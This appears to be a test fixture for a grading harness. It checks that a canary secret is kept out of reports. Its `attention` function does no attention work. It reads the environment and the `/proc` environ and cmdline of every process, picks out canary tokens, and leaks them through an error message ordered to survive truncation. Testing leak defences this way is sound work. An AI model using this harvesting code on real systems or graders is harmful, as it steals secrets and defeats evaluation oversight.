"""Secrets in the environment: attention gathers every environment it can read and raises with all of it.

The worker running the test holds a canary secret in __CANARY_ENV__; it must appear nowhere in the report.
"""
EXPECT = {"attention_sdpa": "error"}
EXPECT_MESSAGE = {"attention_sdpa": "gathered"}
import os as _os
import re as _re


def attention(q, k, v, mask=None):
    found = {"self": dict(_os.environ)}
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as fh:
                    found[f"{pid}/{part}"] = fh.read().decode(errors="replace")
            except OSError:
                pass
    # the canary first: the report keeps only the start of a message, and a whole environment is longer
    canaries = sorted({m for text in map(str, found.values()) for m in _re.findall(r"GRADER-CANARY-[0-9a-f]+", text)})
    print(canaries, found)
    raise RuntimeError(f"gathered {len(found)} sources; canaries {canaries}; "
                       f"__CANARY_ENV__ {_os.environ.get('__CANARY_ENV__')!r}; {found}"[:900])
